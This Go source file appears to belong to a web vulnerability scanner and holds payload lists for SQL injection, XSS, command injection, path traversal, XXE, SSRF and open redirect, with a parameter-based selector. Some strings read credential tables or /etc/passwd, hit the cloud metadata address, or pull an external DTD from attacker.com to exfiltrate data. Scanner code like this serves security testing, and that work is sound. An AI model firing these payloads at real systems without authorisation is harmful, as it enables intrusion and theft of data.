// Package payloads holds the attack strings used by the detectors, a
// context-aware selector keyed on parameter names, and simple encodings for
// filter evasion.
package payloads

import (
	"math/rand"
	"strings"
)

// Version identifies the payload set. Bump it when any list changes.
const Version = "1.0"

// SQLKind selects a SQL injection payload family.
type SQLKind string

// SQL injection families.
const (
	SQLTime  SQLKind = "time_based"
	SQLError SQLKind = "error_based"
	SQLUnion SQLKind = "union_based"
	SQLBlind SQLKind = "blind"
)

var sqlPayloads = map[SQLKind][]string{
	SQLTime: {
		"1' AND SLEEP(5)--",
		"1' AND BENCHMARK(5000000,MD5('test'))--",
		"1' WAITFOR DELAY '00:00:05'--",
		"1'; DBMS_LOCK.SLEEP(5);--",
	},
	SQLError: {
		"1' AND extractvalue(1, concat(0x7e, (select @@version)))--",
		"1' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT(0x7e, (SELECT @@version), 0x7e) x FROM information_schema.tables GROUP BY x) y)--",
		"1' AND 1=CAST(VERSION() AS NUMERIC)--",
	},
	SQLUnion: {
		"1' UNION SELECT NULL, NULL, NULL--",
		"1' UNION ALL SELECT NULL, CONCAT(username, 0x3a, password), NULL FROM users--",
		"1' UNION SELECT table_name, column_name, NULL FROM information_schema.columns--",
	},
	SQLBlind: {
		"1' AND 1=1--",
		"1' AND 1=2--",
		"1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0--",
		"1' AND SUBSTRING((SELECT version()), 1, 1) = '5'--",
	},
}

var sqlOrder = []SQLKind{SQLTime, SQLError, SQLUnion, SQLBlind}

// Boolean pair used by the differential SQL check.
const (
	SQLBooleanTrue  = "1' AND '1'='1"
	SQLBooleanFalse = "1' AND '1'='2"
)

var xssPayloads = []string{
	"<script>alert('XSS')</script>",
	"<img src=x onerror=alert('XSS')>",
	"<svg onload=alert('XSS')>",
	"<body onload=alert('XSS')>",
	"<iframe src=javascript:alert('XSS')>",
	"<input onfocus=alert('XSS') autofocus>",
	"javascript:alert('XSS')",
	"<marquee onstart=alert('XSS')>",
	"<details open ontoggle=alert('XSS')>",
	"<video src=x onerror=alert('XSS')>",
	"'\"><script>alert('XSS')</script>",
	"<svg/onload=alert('XSS')>",
	"<img src=x onerror=\"eval(atob('YWxlcnQoJ1hTUycpOw=='))\">",
}

var cmdPayloads = []string{
	"; id",
	"| id",
	"|| id",
	"& whoami",
	"&& whoami",
	"`whoami`",
	"$(whoami)",
	"$(cat /etc/passwd)",
	"\n whoami",
	"\r\n whoami",
	"'; exec('id'); '",
	"* id *",
	">output.txt",
}

// Payloads that stall the shell for about five seconds on Unix and Windows.
var cmdTimingPayloads = []string{
	"; sleep 5",
	"| sleep 5",
	"& timeout 5",
	"&& timeout 5",
}

var traversalPayloads = []string{
	"../../../etc/passwd",
	"..\\..\\..\\windows\\win.ini",
	"....//....//....//etc/passwd",
	"..;/..;/..;/etc/passwd",
	"%2e%2e%2fetc%2fpasswd",
	"..%252f..%252fetc%252fpasswd",
	"..%c0%afetc%c0%afpasswd",
	"....\\\\....\\\\....\\\\windows\\\\win.ini",
}

var xxePayloads = []string{
	`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><root>&xxe;</root>`,
	`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY xxe SYSTEM "http://localhost:8080/test">]><root>&xxe;</root>`,
	`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY % dtd SYSTEM "http://attacker.com/xxe.dtd">%dtd;]><root>&exfiltrate;</root>`,
}

var ssrfPayloads = []string{
	"http://localhost/admin",
	"http://127.0.0.1/admin",
	"http://localhost:8080",
	"http://169.254.169.254/latest/meta-data/",
	"file:///etc/passwd",
	"gopher://localhost:25",
	"dict://localhost:11211",
}

var redirectPayloads = []string{
	"http://evil.com",
	"//evil.com",
	"///evil.com",
	"http:\\\\evil.com",
	"javascript:alert('XSS')",
	"data:text/html,<script>alert('XSS')</script>",
}

func clone(s []string) []string {
	return append([]string(nil), s...)
}

// SQL returns one SQL family. An empty kind returns every family in order.
func SQL(kind SQLKind) []string {
	if kind == "" {
		var all []string
		for _, k := range sqlOrder {
			all = append(all, sqlPayloads[k]...)
		}
		return all
	}
	return clone(sqlPayloads[kind])
}

// XSS returns every XSS payload.
func XSS() []string { return clone(xssPayloads) }

// SampleXSS returns n distinct XSS payloads chosen by r.
// A nil r uses the package source.
func SampleXSS(r *rand.Rand, n int) []string {
	return sample(r, xssPayloads, n)
}

// Command returns the generic command injection payloads.
func Command() []string { return clone(cmdPayloads) }

// CommandTiming returns the sleep payloads used for time-based detection.
func CommandTiming() []string { return clone(cmdTimingPayloads) }

// Traversal returns path traversal payloads.
func Traversal() []string { return clone(traversalPayloads) }

// XXE returns XML external entity documents.
func XXE() []string { return clone(xxePayloads) }

// SSRF returns internal-address payloads.
func SSRF() []string { return clone(ssrfPayloads) }

// Redirect returns open redirect payloads.
func Redirect() []string { return clone(redirectPayloads) }

// First returns at most n leading elements of list.
func First(list []string, n int) []string {
	if n < len(list) {
		return list[:n]
	}
	return list
}

func sample(r *rand.Rand, list []string, n int) []string {
	if n <= 0 {
		return nil
	}
	if n > len(list) {
		n = len(list)
	}
	var perm []int
	if r != nil {
		perm = r.Perm(len(list))
	} else {
		perm = rand.Perm(len(list))
	}
	out := make([]string, n)
	for i := 0; i < n; i++ {
		out[i] = list[perm[i]]
	}
	return out
}

// ForContext picks payloads from the parameter name: numeric identifiers get
// SQL timing and union strings, search boxes get XSS and blind SQL, URL
// parameters get redirects and file parameters get traversal.
func ForContext(param string, r *rand.Rand) []string {
	var out []string
	switch strings.ToLower(param) {
	case "id", "userid", "user_id", "uid":
		out = append(out, First(sqlPayloads[SQLTime], 3)...)
		out = append(out, First(sqlPayloads[SQLUnion], 2)...)
	case "search", "q", "query", "keyword":
		out = append(out, SampleXSS(r, 3)...)
		out = append(out, First(sqlPayloads[SQLBlind], 2)...)
	case "url", "link", "redirect", "referrer":
		out = append(out, redirectPayloads...)
	case "file", "path", "filename":
		out = append(out, traversalPayloads...)
	default:
		out = append(out, SampleXSS(r, 2)...)
		out = append(out, First(sqlPayloads[SQLBlind], 2)...)
	}
	return out
}
